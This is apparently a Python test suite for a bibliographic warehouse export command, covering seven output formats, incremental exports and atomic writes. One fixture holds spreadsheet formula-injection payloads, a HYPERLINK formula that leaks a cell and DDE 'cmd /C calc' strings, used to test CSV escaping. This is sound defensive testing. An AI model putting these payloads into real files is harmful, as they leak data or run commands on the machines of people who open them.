"""`python -m pipeline export`: every format read back by a real parser of that format.

The warehouse is real (the seed archive plus the hand-labelled real pages, ingested and
deduplicated; or hand-made pages run through real dedup passes), the command runs in a
subprocess as a user would run it, and what is expected comes from the warehouse's own views
(`publications`, `works`, `record_status`), never from the export code.
"""

from __future__ import annotations

import csv
import hashlib
import json
import re
import tomllib
from datetime import datetime
from pathlib import Path
from typing import Any

import bibtexparser
import duckdb
import jsonschema
import pyarrow.parquet as pq
import pybtex.database
import pytest
import rispy
from citeproc import Citation, CitationItem, CitationStylesBibliography, CitationStylesStyle, formatter
from citeproc.source.json import CiteProcJSON
from click.testing import CliRunner
from lxml import etree
from pylatexenc.latex2text import LatexNodes2Text
from test_changes import _card
from test_crawl import crawl_ingest
from test_dedup_rules import MP, PUB, add_pages, build_warehouse, page

from pipeline.archive import Archive
from pipeline.cli import main
from pipeline.dedup import run_dedup
from pipeline.errors import ExportError
from pipeline.export import csv_cell, write_atomically
from tests.conftest import copy_seed_archive, ingest_archive
from tests.replica import Replica

REAL_PAGES = Path(__file__).parent / "real_pages"
CSL_SCHEMA = json.loads((Path(__file__).parent / "data" / "csl-data.json").read_text(encoding="utf-8"))
OAI_DC = "http://www.openarchives.org/OAI/2.0/oai_dc/"
DC = "http://purl.org/dc/elements/1.1/"
#: the fifteen elements of the Dublin Core Metadata Element Set, the only children oai_dc allows
DCMES = {"title", "creator", "subject", "description", "publisher", "contributor", "date", "type", "format",
         "identifier", "source", "language", "relation", "coverage", "rights"}  # fmt: skip
FORMATS = ("parquet", "csv", "jsonl", "dc", "csl-json", "ris", "bibtex")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


# -- warehouses -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def real_warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Seed dumps plus the real detail, news and listing pages of publications and news: organisations,
    types, series, ISBNs (pages of other kinds, events or about pages, hold nothing to export)."""
    base = tmp_path_factory.mktemp("export")
    raw = copy_seed_archive(base / "raw")
    archive = Archive(raw)
    labels = tomllib.loads((REAL_PAGES / "labels.toml").read_text(encoding="utf-8"))["page"]
    for label in labels:
        if label["shape"] in ("detail", "news", "listing") and label["kind"] in ("publication", "news"):
            fmt = "text-listing" if label["shape"] == "listing" else "text-detail"
            body = (REAL_PAGES / label["file"]).read_bytes()
            archive.put(body, source=label["source"], url=label["url"], format=fmt, label=label["file"])
    db = base / "warehouse.duckdb"
    summary = ingest_archive(raw, db)
    assert summary.status == "ok", summary.message
    return db


def rows(db: Path, sql: str, params: list | None = None) -> list[dict[str, Any]]:
    con = duckdb.connect(str(db), read_only=True)
    try:
        con.execute("SET TimeZone = 'UTC'")
        rel = con.execute(sql, params or [])
        names = [d[0] for d in rel.description]
        return [dict(zip(names, r, strict=True)) for r in rel.fetchall()]
    finally:
        con.close()


def editions(db: Path) -> dict[str, dict[str, Any]]:
    """The warehouse's own editions, with their work's other editions and their change status."""
    found = rows(
        db,
        """
        WITH seen AS (
            SELECT m.edition_id, list_distinct(flatten(list([s.detail_url, r.url]))) AS seen_at
            FROM edition_members AS m JOIN sightings AS s USING (sighting_id) JOIN raw_pages AS r USING (page_id)
            GROUP BY m.edition_id
        )
        SELECT p.*, list_filter(w.edition_ids, lambda e: e <> p.edition_id) AS others,
               rs.last_changed_at, seen.seen_at
        FROM publications AS p JOIN works AS w USING (work_id) JOIN seen USING (edition_id)
        LEFT JOIN record_status AS rs ON rs.level = 'edition' AND rs.id = p.edition_id
        """,
    )
    for r in found:
        r["seen_at"] = set(r["seen_at"])
    return {r["edition_id"]: r for r in found}


def works(db: Path) -> dict[str, dict[str, Any]]:
    found = rows(
        db,
        """
        SELECT w.*, rs.last_changed_at FROM works AS w
        LEFT JOIN record_status AS rs ON rs.level = 'work' AND rs.id = w.work_id
        """,
    )
    return {r["work_id"]: r for r in found}


def cited_title(rec: dict[str, Any], subtitle: str | None = None) -> str:
    """What a citation should show as the title: the page's title and its subtitle, else the derived
    one in square brackets (how catalogues mark a title no page shows, ISBD/RDA)."""
    title = rec["title"]
    if not title:
        return f"[{rec['display_title']}]"
    return f"{title}: {subtitle}" if subtitle and subtitle.lower() not in title.lower() else title


def subtitles(db: Path) -> dict[str, str | None]:
    """The subtitle the best page of each edition gives (only detail pages print one)."""
    found = rows(
        db,
        """
        SELECT m.edition_id, any_value(s.extra->>'subtitle') AS subtitle
        FROM edition_members AS m JOIN sightings AS s USING (sighting_id)
        WHERE s.extra->>'subtitle' IS NOT NULL GROUP BY ALL
        """,
    )
    return {r["edition_id"]: r["subtitle"] for r in found}


# -- readers: each format through a real parser of it ---------------------------------------------


def read_parquet(path: Path) -> list[dict[str, Any]]:
    return pq.read_table(path).to_pylist()


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def read_dc(path: Path) -> list[etree._Element]:
    root = etree.parse(str(path), etree.XMLParser(resolve_entities=False, no_network=True)).getroot()
    assert root.tag == "records"
    for record in root:
        assert record.tag == "record" and record.get("id")
        for dc in record:
            assert dc.tag == f"{{{OAI_DC}}}dc"
            children = list(dc)
            assert children, record.get("id")
            for element in children:
                assert etree.QName(element).namespace == DC, element.tag
                assert etree.QName(element).localname in DCMES, element.tag
    return list(root)


def dc_values(record: etree._Element, name: str) -> list[str]:
    return [e.text for e in record.iter(f"{{{DC}}}{name}")]


def read_csl(path: Path) -> list[dict[str, Any]]:
    items = json.loads(path.read_text(encoding="utf-8"))
    jsonschema.Draft7Validator(CSL_SCHEMA).validate(items)
    return items


def read_ris(path: Path) -> list[dict[str, Any]]:
    text = path.read_text(encoding="utf-8")
    for line in text.splitlines():  # the RIS line grammar: "XX  - value", blank lines between records
        assert line == "" or re.fullmatch(r"[A-Z][A-Z0-9]  - .*", line), line
    entries = rispy.loads(text)
    assert text.count("\nER  - ") + text.startswith("ER  - ") == len(entries)
    return entries


def read_bibtex(path: Path) -> list[Any]:
    text = path.read_text(encoding="utf-8")
    library = bibtexparser.parse_string(text)  # fields as written; unlatex() decodes them
    assert not library.failed_blocks, [b.error for b in library.failed_blocks]
    strict = pybtex.database.parse_string(text, "bibtex")  # a second parser; it refuses duplicate keys
    assert len(strict.entries) == len(library.entries)
    return library.entries


def unlatex(value: str) -> str:
    """A BibTeX field as text (pylatexenc reads LaTeX's \\textasciicircum as the modifier letter U+02C6)."""
    return LatexNodes2Text().latex_to_text(value).replace("\u02c6", "^")


def ids_in(fmt: str, path: Path, level: str = "edition") -> list[str]:
    key = "edition_id" if level == "edition" else "work_id"
    if fmt == "parquet":
        return [r[key] for r in read_parquet(path)]
    if fmt == "csv":
        return [r[key] for r in read_csv(path)]
    if fmt == "jsonl":
        return [r[key] for r in read_jsonl(path)]
    if fmt == "dc":
        return [r.get("id") for r in read_dc(path)]
    if fmt == "csl-json":
        return [i["id"] for i in read_csl(path)]
    if fmt == "ris":
        return [e["id"] for e in read_ris(path)]
    return [e.key for e in read_bibtex(path)]


def export(db: Path, out: Path, fmt: str, *args: str) -> None:
    """The real command, in-process (a subprocess per export would spend seconds importing the pipeline)."""
    result = CliRunner().invoke(main, ["export", "--db", str(db), "--format", fmt, "--out", str(out), *args])
    assert result.exit_code == 0, result.output


# -- every format, every record -------------------------------------------------------------------


@pytest.mark.parametrize("level", ["edition", "work"])
@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_holds_each_record_once(real_warehouse: Path, tmp_path: Path, fmt: str, level: str):
    out = tmp_path / f"export.{fmt}"
    export(real_warehouse, out, fmt, "--level", level)
    expected = editions(real_warehouse) if level == "edition" else works(real_warehouse)
    found = ids_in(fmt, out, level)
    assert len(expected) > 100
    assert sorted(found) == sorted(expected)  # each id once, none missing, none invented


VIEW_FIELDS = ("work_id", "language", "title", "display_title", "abstract", "abstract_truncated", "year", "page_count",
               "isbn", "eisbn", "languages", "pdf_urls", "url", "sources", "sighting_ids")  # fmt: skip


def test_parquet_and_jsonl_round_trip_every_field_of_the_publications_view(real_warehouse, tmp_path):
    truth = editions(real_warehouse)
    for fmt, reader in (("parquet", read_parquet), ("jsonl", read_jsonl)):
        out = tmp_path / f"e.{fmt}"
        export(real_warehouse, out, fmt)
        for rec in reader(out):
            want = truth[rec["edition_id"]]
            for field in VIEW_FIELDS:
                assert rec[field] == want[field], (fmt, rec["edition_id"], field)
            assert sorted(e["edition_id"] for e in rec["other_editions"]) == sorted(want["others"])
            stamps = {k: rec[k] for k in ("first_seen", "last_seen", "last_changed_at")}
            if fmt == "jsonl":  # ISO 8601 text
                stamps = {k: datetime.fromisoformat(v) for k, v in stamps.items()}
            assert stamps["last_changed_at"] == want["last_changed_at"]
            assert stamps["first_seen"] == want["first_seen"] and stamps["last_seen"] >= stamps["first_seen"]
            assert set(rec["source_urls"]) == want["seen_at"], rec["edition_id"]


def test_fields_from_the_pages_are_exported(real_warehouse, tmp_path):
    """organisation, type, series... come from sightings.extra; an edition seen once has its page's values."""
    single = rows(
        real_warehouse,
        """
        SELECT m.edition_id, any_value(s.extra->>'organisation') AS organisation, any_value(s.extra->>'type') AS type,
               any_value(s.extra->>'series') AS series, any_value(s.extra->>'region') AS region
        FROM edition_members AS m JOIN sightings AS s USING (sighting_id)
        GROUP BY m.edition_id HAVING count(*) = 1
        """,
    )
    out = tmp_path / "e.jsonl"
    export(real_warehouse, out, "jsonl")
    exported = {r["edition_id"]: r for r in read_jsonl(out)}
    with_org = [r for r in single if r["organisation"]]
    assert len(with_org) >= 5 and any(r["type"] for r in single) and any(r["series"] for r in single)
    for want in single:
        for field in ("organisation", "type", "series", "region"):
            assert exported[want["edition_id"]][field] == want[field], (want["edition_id"], field)


def test_csv_cells_match_the_warehouse(real_warehouse, tmp_path):
    truth = editions(real_warehouse)
    out = tmp_path / "e.csv"
    export(real_warehouse, out, "csv")
    table = read_csv(out)
    assert len(table) == len(truth)
    for row in table:
        want = truth[row["edition_id"]]
        assert row["title"] == (want["title"] or "")
        assert row["abstract"] == (want["abstract"] or "")
        assert row["year"] == ("" if want["year"] is None else str(want["year"]))
        assert json.loads(row["isbn"]) == want["isbn"]
        assert [e["edition_id"] for e in json.loads(row["other_editions"])] == want["others"]


def test_dublin_core_records_carry_the_dc_elements(real_warehouse, tmp_path):
    truth = editions(real_warehouse)
    subs = subtitles(real_warehouse)
    out = tmp_path / "e.xml"
    export(real_warehouse, out, "dc")
    records = read_dc(out)
    assert len(records) == len(truth)
    for record in records:
        want = truth[record.get("id")]
        assert dc_values(record, "title") == [cited_title(want, subs.get(want["edition_id"]))]
        assert want["edition_id"] in dc_values(record, "identifier")
        identifiers = dc_values(record, "identifier")
        assert all(f"urn:isbn:{n}" in identifiers for n in want["isbn"] + want["eisbn"])
        if want["url"]:
            assert want["url"] in identifiers
        assert dc_values(record, "date") == ([str(want["year"])] if want["year"] else [])
        assert dc_values(record, "language") == ([want["language"]] if want["language"] else [])
        assert len(dc_values(record, "relation")) >= len(want["others"])
        assert "Text" in dc_values(record, "type")


def test_csl_json_is_valid_against_the_schema_and_renders_a_bibliography(real_warehouse, tmp_path):
    truth = editions(real_warehouse)
    subs = subtitles(real_warehouse)
    out = tmp_path / "e.json"
    export(real_warehouse, out, "csl-json")
    items = read_csl(out)
    assert len(items) == len(truth)
    for item in items:
        want = truth[item["id"]]
        assert item["title"] == cited_title(want, subs.get(item["id"]))
        assert item.get("issued") == ({"date-parts": [[want["year"]]]} if want["year"] else None)
        assert item.get("ISBN", "").split() == list(dict.fromkeys(want["isbn"] + want["eisbn"]))
        assert item["type"] in ("book", "report", "periodical", "pamphlet", "document")  # CSL 1.0.2 types
    # a citation processor takes every item as is (pytest turns its warnings about unknown fields into errors)
    style = CitationStylesStyle("harvard-cite-them-right", validate=False)
    bibliography = CitationStylesBibliography(style, CiteProcJSON(items), formatter.plain)
    for item in items:
        bibliography.register(Citation([CitationItem(item["id"])]))
    assert len(bibliography.bibliography()) == len(items)


def test_ris_entries_round_trip_through_rispy(real_warehouse, tmp_path):
    truth = editions(real_warehouse)
    subs = subtitles(real_warehouse)
    out = tmp_path / "e.ris"
    export(real_warehouse, out, "ris")
    entries = read_ris(out)
    assert len(entries) == len(truth)
    for entry in entries:
        want = truth[entry["id"]]
        assert entry["title"] == " ".join(cited_title(want, subs.get(entry["id"])).split())
        assert entry.get("year") == (str(want["year"]) if want["year"] else None)
        assert entry["type_of_reference"] in ("BOOK", "RPRT", "JFULL", "PAMP", "GEN")
        for number in want["isbn"] + want["eisbn"]:
            assert number in entry["issn"]  # rispy's name for SN
        own = want["url"] or next(iter(want["pdf_urls"]), None)  # its own page, else its file; never a listing
        assert entry.get("urls") == ([own] if own else None)
        if want["language"]:
            assert entry["language"] == want["language"]


def test_bibtex_parses_in_two_parsers_with_unique_keys_and_decodes_to_the_titles(real_warehouse, tmp_path):
    truth = editions(real_warehouse)
    subs = subtitles(real_warehouse)
    out = tmp_path / "e.bib"
    export(real_warehouse, out, "bibtex")
    entries = read_bibtex(out)
    assert len({e.key for e in entries}) == len(entries) == len(truth)
    for entry in entries:
        want = truth[entry.key]
        assert entry.entry_type in ("book", "techreport", "manual", "booklet", "misc")
        assert unlatex(entry["title"]) == cited_title(want, subs.get(entry.key))
        if want["year"]:
            assert entry["year"] == str(want["year"])
        if want["abstract"]:
            assert " ".join(unlatex(entry["abstract"]).split()) == " ".join(want["abstract"].split())


def test_work_records_list_their_editions_and_take_the_title_of_the_works_view(real_warehouse, tmp_path):
    truth = works(real_warehouse)
    by_edition = editions(real_warehouse)
    out = tmp_path / "w.parquet"
    export(real_warehouse, out, "parquet", "--level", "work")
    records = read_parquet(out)
    multi = [r for r in records if r["edition_count"] > 1]
    assert multi, "the real pages hold translations"
    for rec in records:
        want = truth[rec["work_id"]]
        assert [e["edition_id"] for e in rec["editions"]] == want["edition_ids"]
        assert (rec["title"], rec["display_title"], rec["languages"]) == (
            want["title"],
            want["display_title"],
            want["languages"],
        )
        assert rec["last_changed_at"] == want["last_changed_at"]
        isbns = {n for e in want["edition_ids"] for n in by_edition[e]["isbn"]}
        assert set(rec["isbn"]) == isbns


# -- a hostile record -----------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://127.0.0.1/?leak="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
LATEX_HOSTILE = r"50% of {migrants} & their $ costs_2023 #1 ~ ^ \end{document} in IOM's report"
LONE_BRACE = "A title with a lone } brace"


@pytest.fixture
def hostile_warehouse(tmp_path: Path) -> Path:
    texts = [
        "Guidance for municipal services on the reception of newly arrived families with children, schooling "
        "and health care included, drawn from twelve city programmes.",
        "Une étude des envois de fonds des travailleurs saisonniers vers leurs familles et des frais de transfert "
        "dans la région des Grands Lacs, avec des recommandations.",
        "A review of cross-border referral mechanisms for unaccompanied children at land crossings, with checklists "
        "for border officials and social workers in three regions.",
        "An assessment of labour migration governance in coastal states, covering recruitment fees, contracts, "
        "grievance channels and the return of workers at the end of their contracts.",
        "Lessons from community-based reintegration projects in rural districts where many returnees settle, "
        "with costs, partners and the outcomes measured a year after return.",
    ]
    titles = [*HOSTILE, LATEX_HOSTILE, LONE_BRACE]
    pages = [
        page(f"h{k}", "html-detail", MP, f"https://{MP}/en/r/hostile-{k}",
             {"title": title, "abstract": texts[k % len(texts)] + f" Part {k}.", "url": f"https://{MP}/en/r/hostile-{k}"})
        for k, title in enumerate(titles)
    ]  # fmt: skip
    db = tmp_path / "hostile.duckdb"
    con = build_warehouse(db, pages)
    run_dedup(con, None)
    con.close()
    return db


def test_csv_neutralises_cells_a_spreadsheet_would_run(hostile_warehouse, tmp_path):
    out = tmp_path / "hostile.csv"
    export(hostile_warehouse, out, "csv")
    table = read_csv(out)
    titles = {r["title"] for r in table}
    for title in HOSTILE:
        assert "'" + title in titles and title not in titles
    for row in table:
        for column, cell in row.items():
            assert not cell.startswith(TRIGGERS), (column, cell)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_trigger_is_defused(cell: str) -> None:
    assert csv_cell(cell) == "'" + cell and csv_cell("plain") == "plain" and csv_cell(-1) == "-1"


def test_special_characters_survive_every_citation_format(hostile_warehouse, tmp_path):
    for fmt in ("dc", "csl-json", "ris", "bibtex", "jsonl"):
        export(hostile_warehouse, tmp_path / f"h.{fmt}", fmt)
    wanted = {*HOSTILE, LATEX_HOSTILE, LONE_BRACE}
    assert {e.findtext(f".//{{{DC}}}title") for e in read_dc(tmp_path / "h.dc")} == wanted
    assert {i["title"] for i in read_csl(tmp_path / "h.csl-json")} == wanted
    assert {e["title"] for e in read_ris(tmp_path / "h.ris")} == wanted
    assert {r["title"] for r in read_jsonl(tmp_path / "h.jsonl")} == wanted
    bibtex = {e["title"]: unlatex(e["title"]) for e in read_bibtex(tmp_path / "h.bibtex")}  # both parsers agree
    assert set(bibtex.values()) - {"A title with a lone  brace"} == wanted - {LONE_BRACE}
    assert r"A title with a lone \textbraceright{} brace" in bibtex  # balanced for BibTeX, which counts every brace


# -- merged fields --------------------------------------------------------------------------------


def test_page_fields_are_merged_per_edition_best_source_first(tmp_path):
    """A detail page outranks a listing card (as in the publications view); a field only the card shows is kept."""
    url = f"https://{PUB}/books/migrant-centres-manual"
    text = ("This manual helps staff of migrant resource centres give accurate information on legal migration, "
            "the risks of irregular migration and the services available to migrants in their country.")  # fmt: skip
    detail = {"title": "Running Migrant Centres", "abstract": text, "url": url,
              "extra": {"organisation": "IOM", "type": "Manual", "subtitle": "A Training Manual"}}  # fmt: skip
    card = {"title": "Running Migrant Centres", "abstract": text[:120], "url": url,
            "extra": {"organisation": "Someone else", "type": "Report", "series": "Training Series"}}  # fmt: skip
    db = tmp_path / "m.duckdb"
    con = build_warehouse(db, [page("card", "html-listing", PUB, f"https://{PUB}/books", card),
                               page("detail", "html-detail", PUB, url, detail)])  # fmt: skip
    run_dedup(con, None)
    con.close()
    out = tmp_path / "m.jsonl"
    export(db, out, "jsonl")
    [rec] = read_jsonl(out)
    assert (rec["organisation"], rec["type"], rec["series"]) == ("IOM", "Manual", "Training Series")
    assert rec["subtitle"] == "A Training Manual"
    assert rec["source_urls"] == [url, f"https://{PUB}/books"]  # the detail page first
    csl = tmp_path / "m.json"
    export(db, csl, "csl-json")
    [item] = read_csl(csl)
    assert item["title"] == "Running Migrant Centres: A Training Manual" and item["type"] == "book"
    assert item["author"] == [{"literal": "IOM"}] and item["collection-title"] == "Training Series"


# -- incremental exports --------------------------------------------------------------------------

@pytest.fixture
def three_runs(tmp_path: Path) -> tuple[Path, dict[int, str]]:
    """Run 1 adds items 0-2; run 2 retitles item 0, drops item 2, adds item 3; run 3 retitles item 3."""
    db = tmp_path / "runs.duckdb"
    pages = [page(f"p{k}", "html-detail", MP, f"https://{MP}/en/r/item-{k}", _card(k)) for k in range(3)]
    con = build_warehouse(db, pages)
    run_dedup(con, None)
    ids = {k: con.execute(
        "SELECT edition_id FROM sighting_editions JOIN sightings USING (sighting_id) WHERE url = ?",
        [f"https://{MP}/en/r/item-{k}"]).fetchone()[0] for k in range(3)}  # fmt: skip
    con.execute("DELETE FROM sightings WHERE url = ?", [f"https://{MP}/en/r/item-2"])
    con.execute("UPDATE sightings SET title = 'Item 0, second edition' WHERE url = ?", [f"https://{MP}/en/r/item-0"])
    add_pages(con, [page("p3", "html-detail", MP, f"https://{MP}/en/r/item-3", _card(3))], run_id=2)
    run_dedup(con, None)
    ids[3] = con.execute(
        "SELECT edition_id FROM sighting_editions JOIN sightings USING (sighting_id) WHERE url = ?",
        [f"https://{MP}/en/r/item-3"]).fetchone()[0]  # fmt: skip
    con.execute("INSERT INTO runs (run_id, started_at, status) VALUES (3, now(), 'ok')")
    con.execute("UPDATE sightings SET title = 'Item 3, revised' WHERE url = ?", [f"https://{MP}/en/r/item-3"])
    run_dedup(con, None)
    con.close()
    return db, ids


def test_since_exports_what_changed_after_a_run_with_its_operation(three_runs, tmp_path):
    db, ids = three_runs
    out = tmp_path / "since1.jsonl"
    export(db, out, "jsonl", "--since", "1")
    found = {r["edition_id"]: r for r in read_jsonl(out)}
    # item 3 was added in run 2 and changed in run 3: new to a reader who synced after run 1
    assert {i: r["operation"] for i, r in found.items()} == {ids[0]: "changed", ids[2]: "withdrawn", ids[3]: "added"}
    assert found[ids[0]]["title"] == "Item 0, second edition" and found[ids[3]]["title"] == "Item 3, revised"
    gone = found[ids[2]]
    assert {k for k, v in gone.items() if v is not None} == {"edition_id", "operation", "change_reason"}
    # each with its reason: the item's page is gone; the other's title was corrected
    assert gone["change_reason"] == "no sightings left"
    assert "title" in found[ids[0]]["change_reason"].split(", ")

    export(db, tmp_path / "since2.jsonl", "jsonl", "--since", "2")
    assert {r["edition_id"]: r["operation"] for r in read_jsonl(tmp_path / "since2.jsonl")} == {ids[3]: "changed"}
    export(db, tmp_path / "since3.jsonl", "jsonl", "--since", "3")
    assert read_jsonl(tmp_path / "since3.jsonl") == []
    export(db, tmp_path / "since0.jsonl", "jsonl", "--since", "0")
    assert {r["edition_id"]: r["operation"] for r in read_jsonl(tmp_path / "since0.jsonl")} == {
        ids[0]: "added", ids[1]: "added", ids[2]: "withdrawn", ids[3]: "added"}  # fmt: skip


def test_since_carries_the_operation_in_every_format(three_runs, tmp_path):
    db, ids = three_runs
    expected = {ids[0]: "changed", ids[2]: "withdrawn", ids[3]: "added"}
    for fmt in FORMATS:
        export(db, tmp_path / f"s.{fmt}", fmt, "--since", "1")
    assert {r["edition_id"]: r["operation"] for r in read_parquet(tmp_path / "s.parquet")} == expected
    table = read_csv(tmp_path / "s.csv")
    assert {r["edition_id"]: r["operation"] for r in table} == expected
    assert {k for k, v in next(r for r in table if r["operation"] == "withdrawn").items() if v} == {
        "operation", "change_reason", "edition_id"}  # fmt: skip
    assert {r.get("id"): r.get("operation") for r in read_dc(tmp_path / "s.dc")} == expected
    assert [len(r) for r in read_dc(tmp_path / "s.dc") if r.get("operation") == "withdrawn"] == [0]
    items = read_csl(tmp_path / "s.csl-json")
    assert {i["id"]: i["custom"]["operation"] for i in items} == expected
    assert {i["id"]: i.get("title") for i in items}[ids[2]] is None
    assert {e["id"]: e["custom1"] for e in read_ris(tmp_path / "s.ris")} == expected
    assert {e.key: e["operation"] for e in read_bibtex(tmp_path / "s.bibtex")} == expected


def test_since_at_work_level(three_runs, tmp_path):
    db, _ = three_runs
    out = tmp_path / "w.jsonl"
    export(db, out, "jsonl", "--level", "work", "--since", "1")
    logged = rows(db, "SELECT id, last_op FROM record_status WHERE level = 'work' AND last_run_id > 1")
    assert sorted(r["operation"] for r in read_jsonl(out)) == ["added", "changed", "withdrawn"]
    assert {r["work_id"] for r in read_jsonl(out)} == {r["id"] for r in logged}


# -- errors and atomic writes ---------------------------------------------------------------------


def test_a_missing_warehouse_or_a_bad_since_is_a_clear_error(run_cli, three_runs, tmp_path):
    db, _ = three_runs
    missing = run_cli("export", "--db", str(tmp_path / "none.duckdb"), "--format", "csv", "--out", str(tmp_path / "x"))
    assert missing.returncode == 5 and "no warehouse" in missing.stderr
    unknown = run_cli("export", "--db", str(db), "--format", "csv", "--out", str(tmp_path / "x"), "--since", "9")
    assert unknown.returncode == 2 and "no such run" in unknown.stderr and "1..3" in unknown.stderr
    for bad in ("yesterday", "-1"):
        result = CliRunner().invoke(main, ["export", "--db", str(db), "--format", "csv", "--out", "x", "--since", bad])
        assert result.exit_code == 2 and "--since" in result.stderr
    nowhere = CliRunner().invoke(
        main, ["export", "--db", str(db), "--format", "csv", "--out", str(tmp_path / "no" / "dir" / "x.csv")]
    )
    assert nowhere.exit_code == 1 and "no directory" in nowhere.stderr
    assert not (tmp_path / "x").exists()


def test_export_never_changes_the_warehouse(three_runs, tmp_path):
    db, _ = three_runs
    before = hashlib.sha256(db.read_bytes()).hexdigest()
    for fmt in FORMATS:
        export(db, tmp_path / f"x.{fmt}", fmt)
    assert hashlib.sha256(db.read_bytes()).hexdigest() == before


def test_a_reader_sees_the_old_file_or_the_new_one_never_half(three_runs, tmp_path):
    db, _ = three_runs
    out = tmp_path / "feed.jsonl"
    export(db, out, "jsonl", "--since", "2")
    old = out.read_bytes()
    with out.open("rb") as reader:  # a harvester that opened the file before the next export
        export(db, out, "jsonl")
        assert reader.read() == old  # the rename leaves its open file whole
    assert len(read_jsonl(out)) == 3 and out.read_bytes() != old
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".feed")) == []

    def fails_halfway(fh) -> None:  # type: ignore[no-untyped-def]
        fh.write("half a record")
        raise OSError(28, "No space left on device")

    with pytest.raises(ExportError, match="No space left"):
        write_atomically(out, fails_halfway)
    assert len(read_jsonl(out)) == 3  # the previous export, untouched
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_last_seen_moves_when_a_page_is_revalidated_unchanged(tmp_path):
    """A 304 on the next crawl shows the archived page again: its editions were seen then, not only at first fetch."""
    with Replica(page_size=10) as replica:
        sources = replica.write_sources(tmp_path / "s.toml")
        crawl_ingest(tmp_path, sources)
        crawl_ingest(tmp_path, sources)  # every request conditional, every answer 304
    db = tmp_path / "w.duckdb"
    revalidated = rows(
        db,
        """
        SELECT m.edition_id, max(f.fetched_at) AS seen
        FROM fetches AS f JOIN raw_pages AS p ON p.source = f.source AND p.url = f.url
        JOIN sightings AS s USING (page_id) JOIN edition_members AS m USING (sighting_id)
        WHERE f.outcome = 'not_modified' AND f.run_id = 2
        GROUP BY m.edition_id
        """,
    )
    assert revalidated
    out = tmp_path / "e.parquet"
    export(db, out, "parquet")
    exported = {r["edition_id"]: r for r in read_parquet(out)}
    for want in revalidated:
        rec = exported[want["edition_id"]]
        assert rec["last_seen"] >= want["seen"] > rec["first_seen"]


def test_the_command_offers_the_formats_the_exporter_writes():
    from pipeline import export, export_cli

    assert (export_cli.FORMATS, export_cli.LEVELS) == (export.FORMATS, export.LEVELS)
